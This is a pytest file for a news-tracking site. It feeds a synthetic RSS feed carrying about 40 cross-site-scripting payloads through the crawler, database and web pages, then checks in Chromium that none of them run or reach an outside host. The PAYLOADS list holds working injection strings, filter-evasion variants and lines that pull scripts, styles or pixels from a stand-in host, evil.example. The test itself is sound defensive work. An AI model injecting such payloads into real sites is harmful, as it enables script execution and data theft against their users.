"""Script payloads through every crawled text field, end to end, in real Chromium.

A synthetic feed (built here, at run time, on a reserved host name; it states
no policy fact) carries about 40 payloads in titles, summaries, links, authors
and outlets. It is crawled by the real news_feeds spider from a loopback replay
server, extracted, built and served. No payload may run on any page, open a
dialog or send a request off 127.0.0.1; stored links are only http(s)."""

import html
import json
import sqlite3
import sys
from urllib.parse import quote

import httpx
import pytest

from crawlers.replay import Recordings, ReplayServer
from db.query import FEED_EVIDENCE_CAP
from tests.conftest import DatasetteServer, run

pytestmark = [pytest.mark.browser, pytest.mark.reliability, pytest.mark.serial]

MARK = "window.__xss=1"
PAYLOADS = [
    f"<script>{MARK}</script>", f"<img src=x onerror=\"{MARK}\">", f"<svg onload=\"{MARK}\">",
    f"<svg><script>{MARK}</script></svg>", f"<body onload=\"{MARK}\">", f"<iframe srcdoc=\"<script>parent.{MARK}</script>\">",
    f"<a href=\"javascript:{MARK}\">x</a>", f"<a href=\"java&#9;script:{MARK}\">x</a>", f"<a href=\"JaVaScRiPt:{MARK}\">x</a>",
    f"<a href=\"data:text/html,<script>{MARK}</script>\">x</a>", f"<math><mtext><table><mglyph><style><img src=x onerror=\"{MARK}\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={MARK}>\">", "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">", "<form action=\"https://evil.example/\"><button>go</button></form>",
    f"<details open ontoggle=\"{MARK}\">", f"<input autofocus onfocus=\"{MARK}\">", f"<video><source onerror=\"{MARK}\"></video>",
    f"<object data=\"javascript:{MARK}\"></object>", f"<embed src=\"javascript:{MARK}\">", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=\"https://evil.example/pixel.png\">", f"\"><script>{MARK}</script>", f"'><img src=x onerror={MARK}>",
    f"</textarea><script>{MARK}</script>", f"</title><script>{MARK}</script>", f"<style>@import 'https://evil.example/x.css';</style>",
    f"<div style=\"background:url(javascript:{MARK})\">x</div>", f"<a href=\"&#106;avascript:{MARK}\">x</a>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>", f"<ScRiPt>{MARK}</sCrIpT>", f"<script src=https://evil.example/x.js></script>",
    f"{{{{constructor.constructor('{MARK}')()}}}}", f"${{{MARK}}}", f"<template><script>{MARK}</script></template>",
    f"<x onclick=\"{MARK}\">click</x>", f"<select onfocus=\"{MARK}\" autofocus>", f"<marquee onstart=\"{MARK}\">",
    f"<isindex action=javascript:{MARK} type=image>", f"<a href=\"vbscript:{MARK}\">x</a>",
]
HOST = "hostile.invalid"
STORED_FIELDS = ("title", "text", "summary", "html_sanitised", "url", "outlet", "extra")


def _rss(items: list[str]) -> bytes:
    return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>Hostile "
            + html.escape(PAYLOADS[0]) + "</title><link>https://hostile.invalid/</link><description>x</description>"
            + "".join(items) + "</channel></rss>").encode()


def _item(n: int, payload: str) -> str:
    link = f"https://{HOST}/story/{n}?q={quote(payload)}"
    if n % 5 == 0:
        link = f"javascript:{MARK};{n}"  # must be dropped, never stored
    return (f"<item><title>{html.escape('UK bans Hikvision cameras from sensitive sites ' + payload)}</title>"
            f"<link>{html.escape(link)}</link>"
            f"<description>{html.escape('<p>Departments must remove Hikvision cameras. ' + payload + '</p>')}</description>"
            f"<author>{html.escape(payload)}</author><source url=\"https://{HOST}/\">{html.escape('Outlet ' + payload)}</source>"
            f"<pubDate>Thu, 0{1 + n % 9} Jun 2023 00:00:00 GMT</pubDate><guid>{n}</guid></item>")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    work = tmp_path_factory.mktemp("hostile")
    rec = work / "recordings"
    rec.mkdir()
    (rec / "feed.rss").write_bytes(_rss([_item(n, p) for n, p in enumerate(PAYLOADS)]))
    url = f"https://{HOST}/feed.rss"
    (rec / "index.json").write_text(json.dumps({"version": 1, "entries": [{
        "id": "hostile", "source": "synthetic", "method": "GET", "url": url, "attempt": 1, "status": 200,
        "response_headers": {"Content-Type": "application/rss+xml; charset=utf-8"}, "file": "feed.rss"}]}))
    server = ReplayServer(recordings=Recordings(rec)).start()
    try:
        run([sys.executable, "-m", "crawlers", "crawl", "news_feeds", "-a", f"feeds={url}", "--out",
             str(work / "crawl"), "--archive", str(work / "raw"), "--replay-url", server.url])
    finally:
        server.stop()
    run([sys.executable, "-m", "nlp", "extract", str(work / "crawl" / "news_feeds.jsonl"), "-o", str(work / "x.jsonl")])
    run([sys.executable, "-m", "db", "build", "--crawl", str(work / "crawl"), "--extracted", str(work / "x.jsonl"),
         "--out", str(work / "tracker.db")])
    ds = DatasetteServer(work / "tracker.db")
    yield ds, work
    ds.stop()


def test_only_http_links_are_stored_and_bad_ones_are_dropped_with_a_reason(hostile):
    _, work = hostile
    conn = sqlite3.connect(work / "tracker.db")
    urls = [r[0] for r in conn.execute("SELECT url FROM documents")]
    assert len(urls) == len(PAYLOADS) - len(range(0, len(PAYLOADS), 5))
    assert all(u.startswith("https://") for u in urls)
    reasons = [r[0] for r in conn.execute("SELECT reason FROM dropped_items")]
    assert len(reasons) == len(range(0, len(PAYLOADS), 5)) and all(r.startswith("invalid: url") for r in reasons)
    assert conn.execute("SELECT COUNT(*) FROM actions").fetchone()[0] > 0  # the payloads reach the timeline


def test_no_payload_runs_on_any_page(hostile, browser, artifacts, figures):
    ds, work = hostile
    doc_id = sqlite3.connect(work / "tracker.db").execute("SELECT id FROM documents LIMIT 1").fetchone()[0]
    pages = ["/", "/timeline", "/timeline?all=1", "/timeline?q=Hikvision&all=1", "/vendors/hikvision?all=1",
             "/organisations/uk-government?all=1", "/sources", "/timeline.atom?all=1", "/tracker/documents",
             "/tracker/timeline", "/tracker/actions",
             f"/tracker/documents/{quote(doc_id, safe='')}", "/tracker/documents.json", "/tracker/timeline.csv",
             "/tracker/whats_new", "/documents", "/vendors", "/organisations", "/people", "/jurisdictions",
             "/no-such-page", f"/raw/{quote(doc_id)}"]
    # every document's own page: its crawled text, title and outlet, with the evidence marked (#17)
    pages += [f"/documents/{quote(i)}" for (i,) in sqlite3.connect(work / "tracker.db").execute(
        "SELECT id FROM documents ORDER BY id")]
    # every event's page: all its sentences, where the Atom entry and the card list only the first few
    pages += [f"/events/{quote(i)}" for (i,) in sqlite3.connect(work / "tracker.db").execute(
        "SELECT id FROM events ORDER BY id")]
    context = browser.new_context()
    dialogs, external, executed, on_attributes = [], [], [], []
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: r.url.startswith(("http://127.0.0.1", "data:", "about:")) or external.append(r.url))
    for path in pages:
        page.goto(ds.url + path)
        page.wait_for_timeout(150)
        if page.evaluate("window.__xss === 1"):
            executed.append(path)
        on_attributes += [f"{path}: {a}" for a in page.evaluate(
            "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name))"
            ".filter(n => n.startsWith('on'))")]
        if path == "/timeline?all=1":
            page.screenshot(path=str(artifacts / "timeline-hostile.png"))
    context.close()
    conn = sqlite3.connect(work / "tracker.db")
    fields = [c for c in STORED_FIELDS if conn.execute(  # stored columns where payload text arrived
        f"SELECT COUNT(*) FROM documents WHERE {c} LIKE '%xss%' OR {c} LIKE '%evil.example%'").fetchone()[0]]
    figures["xss"] = {"payloads": len(PAYLOADS), "fields": len(fields), "pages": len(pages), "executed": len(executed),
                      "dialogs": len(dialogs), "external_requests": len(external)}
    assert executed == [] and dialogs == [] and external == [] and on_attributes == []


def test_feed_and_json_exports_carry_payloads_only_as_text(hostile):
    ds, _ = hostile
    atom = httpx.get(ds.url + "/timeline.atom?all=1")  # every event, the hostile ones at any confidence
    # the stories report one act: one entry, whose content lists the event's first sentences with their
    # titles and links (the rest are on the event's page, which test_no_payload_runs_on_any_page loads)
    assert atom.content.count(b"<entry>") >= 1
    assert atom.content.count(b"https://hostile.invalid/story/") >= FEED_EVIDENCE_CAP
    assert b"<script" not in atom.content and b"javascript:" not in atom.content.lower()
    j = httpx.get(ds.url + "/tracker/documents.json")
    assert j.headers["content-type"].startswith("application/json") and j.headers["x-content-type-options"] == "nosniff"
